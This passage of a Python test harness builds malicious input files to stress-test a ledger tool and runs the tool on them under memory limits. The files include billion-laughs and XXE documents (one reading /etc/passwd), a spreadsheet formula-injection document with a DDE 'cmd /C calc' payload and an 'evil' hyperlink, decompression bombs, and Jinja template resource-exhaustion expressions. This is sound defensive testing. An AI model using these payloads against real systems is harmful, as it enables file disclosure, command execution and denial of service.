        b'<w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%1%1%1%1%1%1%1%1"/></w:lvl></w:abstractNum>'
        b'<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
        b'<w:num w:numId="2"><w:abstractNumId w:val="2"/></w:num>'
        b"</w:numbering>"
    )
    styles_patch = (
        b'<w:style w:type="paragraph" w:styleId="S1"><w:name w:val="S1"/><w:basedOn w:val="S2"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        b'<w:style w:type="paragraph" w:styleId="S2"><w:name w:val="S2"/><w:basedOn w:val="S1"/></w:style>'
    )
    paras = b"".join(
        b'<w:p><w:pPr><w:pStyle w:val="S1"/><w:numPr><w:ilvl w:val="%d"/><w:numId w:val="%d"/></w:numPr></w:pPr><w:r><w:t>\xe4\xb8\x80\xe6\x98\xaf</w:t></w:r></w:p>'
        % (lv, n)
        for lv, n in [(0, 1), (8, 1), (99999, 1), (-1, 1), (0, 2), (0, 7)]
    )
    items = members(path)
    names = {i.filename for i, _ in items}
    change = {
        _DOC: lambda x: x.replace(b"<w:sectPr", paras + b"<w:sectPr", 1),
        "word/styles.xml": lambda x: x.replace(b"</w:styles>", styles_patch + b"</w:styles>"),
    }
    if "word/numbering.xml" in names:
        change["word/numbering.xml"] = numbering
        rewrite(path, change)
    else:
        rewrite(path, change, extra=[("word/numbering.xml", numbering)])


@doc_builder("docx-laughs")
def _docx_laughs(path: Path) -> None:
    base_docx(path)
    rewrite(
        path, {_DOC: lambda x: _LAUGHS + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&lol9;", 1)}
    )


@doc_builder("docx-xxe")
def _docx_xxe(path: Path) -> None:
    base_docx(path)
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    rewrite(
        path, {_DOC: lambda x: doctype + x.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&e;", 1)}
    )


@doc_builder("docx-formula-injection")
def _docx_injection(path: Path) -> None:
    base_docx(
        path,
        [
            "关于落实巡察反馈意见的整改方案",
            '一、=HYPERLINK("http://evil","方面")',
            "（一）+cmd|' /C calc'!A0问题。",
            "1.@SUM(1+1)措施。",
            "2.=1+1",
            "3.-2+3措施控制\u202e字符",
        ],
    )


@doc_builder("docx-huge-image")
def _docx_image(path: Path) -> None:
    base_docx(path)
    stream, size, crc = bomb_stream(b"\x89PNG\r\n\x1a\n", b"\0", 3 << 30, b"")
    entries = []
    for info, data in members(path):
        entries.append(
            (info.filename, zlib.compress(data, 9)[2:-4], 8, zlib.crc32(data), len(data))
        )
    entries.append(("word/media/image1.png", stream, 8, crc, size))
    write_raw_zip(path, entries)


@doc_builder("docx-bomb-styles")
def _docx_bomb_styles(path: Path) -> None:
    base_docx(path)
    styles = dict((i.filename, d) for i, d in members(path))["word/styles.xml"]
    head, tail = styles.split(b"</w:styles>")
    replace_with_bomb(path, "word/styles.xml", head, b" ", 3 << 30, b"</w:styles>" + tail)


@doc_builder("txt-wrapped-one-paragraph", ".txt")
def _txt_wrapped(path: Path) -> None:
    """100,000 lines of one width and no sentence end: joined into one paragraph."""
    line = "整改措施落实情况持续推进相关工作不断深化拓展" * 2 + "\n"
    path.write_text("关于整改情况的报告\n" + line * 100_000, encoding="utf-8")


@doc_builder("txt-binary", ".txt")
def _txt_binary(path: Path) -> None:
    path.write_bytes(bytes(range(256)) * 4000)


@doc_builder("txt-long-line", ".txt")
def _txt_long(path: Path) -> None:
    path.write_text("一、" + "整改" * 5_000_000 + "\n", encoding="utf-8")


@doc_builder("txt-many-items", ".txt")
def _txt_items(path: Path) -> None:
    body = "".join(f"{i % 9 + 1}.措施{i}。\n" for i in range(300_000))
    path.write_text(
        "关于落实反馈意见的整改方案\n一、理论学习方面\n（一）学习不够。\n" + body, encoding="utf-8"
    )


@doc_builder("pdf-bomb", ".pdf")
def _pdf_bomb(path: Path) -> None:
    """A one-page PDF whose content stream inflates to 1 GB of text drawing operators."""
    ops = b"BT /F1 12 Tf 72 720 Td (a) Tj ET\n"
    stream, size, _ = bomb_stream(b"", ops, (1 << 30) // len(ops), b"")
    stream = b"\x78\x9c" + stream  # zlib header; the trailer checksum is missing (tolerated)
    _write_pdf(path, stream)


@doc_builder("pdf-many-pages", ".pdf")
def _pdf_pages(path: Path) -> None:
    content = b"BT /F1 12 Tf 72 720 Td (x) Tj ET"
    _write_pdf(path, zlib.compress(content), pages=200_000)


def _write_pdf(path: Path, content: bytes, pages: int = 1) -> None:
    objs: list[bytes] = []
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objs.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages)
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    objs.append(
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
    )
    for _ in range(pages):
        objs.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
        )
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    )
    path.write_bytes(out.getvalue())


# ---------------------------------------------------------------------------------------------
# Running a command under limits

# ---------------------------------------------------------------------------------------------
# User Word templates (--template): the second attack run (tests/test_attack2.py)

BIG = "{% set s = 'a' * 9000000 %}"  # one 9 MB text, allowed: what is made from it is not

# name, template paragraph, fragment of the message. Before this run each of these took
# over 1.6 GB (or hung: power-chain, sum-quadratic) and was only stopped by the test's
# 2 GB limit; a clerk's machine without one would have swapped or frozen.
TEMPLATE_ATTACKS = [
    ("print-list", BIG + "{{ [s] * 1000 }}", "输出的值"),
    ("concat-list", BIG + "{{ 'x' ~ ([s] * 1000) }}", "拼接（~）的结果"),
    ("percent-many", BIG + "{{ ('%s' * 1000) % ((s,) * 1000) }}", "格式化的结果"),
    ("format-many", BIG + "{{ ('{0}' * 1000).format(s) }}", "格式化的结果"),
    ("join-separator", BIG + "{{ s.join(['a'] * 1000000) }}", "连接（join）的结果"),
    ("join-filter", BIG + "{{ ([s] * 1000)|join }}", "连接（join）的结果"),
    ("tojson", BIG + "{{ ([s] * 1000)|tojson|length }}", "过滤器 tojson"),
    ("string-filter", BIG + "{{ ([s] * 1000)|string|length }}", "过滤器 string"),
    ("namespace-repr", BIG + "{% set ns = namespace(a=[s] * 1000) %}{{ ns }}", "输出的值"),
    ("groupby-copies", BIG + "{{ ([{'a': s}] * 100000)|groupby('a')|list|length }}", "groupby"),
    ("expandtabs", "{{ ('\\t' * 9000000).expandtabs(1000) }}", "展开制表符"),
    ("indent-text", "{{ ('\\n' * 9000000)|indent('x' * 1000, true) }}", "缩进的结果"),
    ("power-chain", "{{ (((10 ** 999) ** 1000) ** 1000)|length }}", "乘方的数值过大"),
    (
        "int-squaring",
        "{% set ns = namespace(x=10 ** 999) %}{% for i in range(40) %}"
        "{% set ns.x = ns.x * ns.x %}{% endfor %}{{ ns.x > 1 }}",
        "乘积的数值过大",
    ),
    ("sum-quadratic", "{{ ([[1] * 1000] * 10000)|sum(start=[])|length }}", "求和（sum）"),
    ("list-items", "{{ (range(100000)|list * 90)|sort|length }}", "重复字符串或列表"),
    ("folded-infinity", "{{ '1e999'|float * 0 }}", "表达式无法计算"),
]


def template_with(path: Path, body: str) -> Path:
    """A one-section .docx template: the title, then ``body`` as a paragraph."""
    import docx

    document = docx.Document()
    for text in ("{{ 标题 }}", body):
        document.add_paragraph(text)
    document.save(path)
    return path


LIMIT_AS = 2_000_000_000


def run_limited(args: list[str], timeout: float = 60, cwd: Path | None = None) -> dict:
    """``python -m ledger_tools *args`` in a child under an address-space limit: exit code,
    output, seconds, peak RSS (MB) of the command (through a small wrapper process)."""
    root = os.environ.get("ATTACK_ROOT", str(ROOT))  # another checkout: the "before" run
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"} | {"PYTHONPATH": root}
    with tempfile.TemporaryDirectory() as tmp:
        peak_file = Path(tmp) / "peak"
        wrapper = (
            "import resource, subprocess, sys\n"
            "def lim():\n"
            f"    resource.setrlimit(resource.RLIMIT_AS, ({LIMIT_AS}, {LIMIT_AS}))\n"
            "r = subprocess.run(sys.argv[2:], stdin=subprocess.DEVNULL, preexec_fn=lim)\n"
            "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))\n"
            "sys.exit(r.returncode)"
        )
        start = time.perf_counter()
        proc = subprocess.Popen(
            [
                sys.executable,
                "-c",
                wrapper,
                str(peak_file),
                sys.executable,
                "-m",
                "ledger_tools",
                *args,
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            cwd=cwd or root,
            env=env,
            start_new_session=True,
        )
        try:
            out, _ = proc.communicate(timeout=timeout)
            code = proc.returncode
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)
            out, _ = proc.communicate()
            code = "TIMEOUT"
        wall = time.perf_counter() - start
        peak = int(peak_file.read_text()) / 1024 if peak_file.exists() else -1
    text = out.decode("utf-8", "replace")
    return {"code": code, "out": text, "wall": wall, "peak": peak}


def verdict(r: dict) -> str:
    text = r["out"]
    bad = []
    if r["code"] == "TIMEOUT":
        bad.append("HANG")
    elif isinstance(r["code"], int) and r["code"] < 0:
        bad.append(f"SIGNAL{-r['code']}")
    if "Traceback" in text:
        bad.append("TRACEBACK")
    if "意外问题" in text:
        bad.append("UNEXPECTED")
    if "MemoryError" in text or "memory allocation" in text:
        bad.append("MEMORY")
    if r["peak"] > 1000:
        bad.append("PEAK>1GB")
    return ",".join(bad) or "ok"


def _first_error(text: str) -> str:
    for line in text.splitlines():
        if line.startswith("错误") or "Error" in line or "意外" in line or "memory" in line:
            return line[:160]
    lines = [ln for ln in text.splitlines() if ln.strip()]
    return (lines[-1] if lines else "")[:160]


LEDGER_COMMANDS: list[tuple[str, Callable[[Path, Path], list[str]]]] = [
    ("check", lambda f, o: ["check", str(f), "--today", "2024-05-10"]),
    (
        "check-mark",
        lambda f, o: ["check", str(f), "--today", "2024-05-10", "--mark", str(o / "m.xlsx")],
    ),
    ("check-json", lambda f, o: ["check", str(f), "--today", "2024-05-10", "--format", "json"]),
    ("stats", lambda f, o: ["stats", str(f), "--today", "2024-05-10"]),
    (
        "plan",
        lambda f, o: ["plan", str(f), "--as-of", "2024-05-10", "--force", "-o", str(o / "p.docx")],
    ),
    (
        "report",
        lambda f, o: [
            "report",
            str(f),
            "--as-of",
            "2024-05-10",
            "--force",
            "-o",
            str(o / "r.docx"),
        ],
    ),
    (
        "notice",
        lambda f, o: [
            "report",
            str(f),
            "--kind",
            "notice",
            "--as-of",
            "2024-05-10",
            "--force",
            "-o",
            str(o / "n.docx"),
        ],
    ),
    (
        "diff",
        lambda f, o: ["diff", str(f), str(f), "--today", "2024-05-10", "--mark", str(o / "d.xlsx")],
    ),
    ("duban", lambda f, o: ["duban", str(f), "--today", "2024-05-10", "-o", str(o / "duban")]),
    (
        "merge",
        lambda f, o: [
            "merge",
            str(f),
            "-o",
            str(o / "merged.xlsx"),
            "--today",
            "2024-05-10",
            "--jobs",
            "1",
        ],
    ),
]


def run_one(path: Path, out: Path, commands: list[str] | None = None) -> None:
    """Every command (or ``commands``) on ``path``, one line each."""
    name = path.stem
    if path.suffix in (".docx", ".txt", ".pdf"):
        runs = [("import", ["import", str(path), "-o", str(out / "imported.xlsx"), "--force"])]
    else:
        runs = [
            (c, make(path, out)) for c, make in LEDGER_COMMANDS if not commands or c in commands
        ]
    for command, args in runs:
        r = run_limited(args)
        print(
            f"{name:28} {command:10} code={r['code']!s:7} {r['wall']:6.1f}s {r['peak']:7.0f}MB "
            f"{verdict(r):20} {_first_error(r['out'])}",
            flush=True,
        )


def main() -> None:
    if sys.argv[1] == "--file":  # run on files already built
        out = Path(tempfile.mkdtemp(prefix="attack-"))
        commands = (
            os.environ.get("ATTACK_COMMANDS", "").split(",")
            if os.environ.get("ATTACK_COMMANDS")
            else None
        )
        for f in sys.argv[2:]:
            run_one(Path(f), out, commands)
        return
    folder = Path(sys.argv[1])
    pattern = sys.argv[2] if len(sys.argv) > 2 else ""
    commands = sys.argv[3].split(",") if len(sys.argv) > 3 else None
    folder.mkdir(parents=True, exist_ok=True)
    for name, build in {**BUILDERS, **DOC_BUILDERS}.items():
        if pattern and pattern not in name:
            continue
        sub = folder / name.replace("\n", "_")
        sub.mkdir(exist_ok=True)
        try:
            path = build(sub)
        except Exception as exc:  # noqa: BLE001
            print(f"{name}: BUILD FAILED {exc!r}", flush=True)
            continue
        if name in DOC_BUILDERS:
            runs = [("import", ["import", str(path), "-o", str(sub / "imported.xlsx"), "--force"])]
        else:
            runs = [
                (c, make(path, sub))
                for c, make in LEDGER_COMMANDS
                if commands is None or c in commands
            ]
        for command, args in runs:
            r = run_limited(args)
            print(
                f"{name:28} {command:10} code={r['code']!s:7} {r['wall']:6.1f}s {r['peak']:7.0f}MB "
                f"{verdict(r):20} {_first_error(r['out'])}",
                flush=True,
            )
            if "TRACEBACK" in verdict(r) or "UNEXPECTED" in verdict(r):
                (sub / f"{command}.out").write_text(r["out"])
    example = ROOT / "examples" / "示例台账.xlsx"
    for name, body, _fragment in TEMPLATE_ATTACKS:
        if pattern and pattern not in name or commands is not None and "template" not in commands:
            continue
        sub = folder / f"template-{name}"
        sub.mkdir(exist_ok=True)
        template = template_with(sub / f"{name}.docx", body)
        out = sub / "out.docx"
        r = run_limited(["plan", str(example), "--template", str(template), "-o", str(out)])
        print(
            f"template-{name:19} plan       code={r['code']!s:7} {r['wall']:6.1f}s "
            f"{r['peak']:7.0f}MB {verdict(r):20} {_first_error(r['out'])}",
            flush=True,
        )


if __name__ == "__main__":
    main()
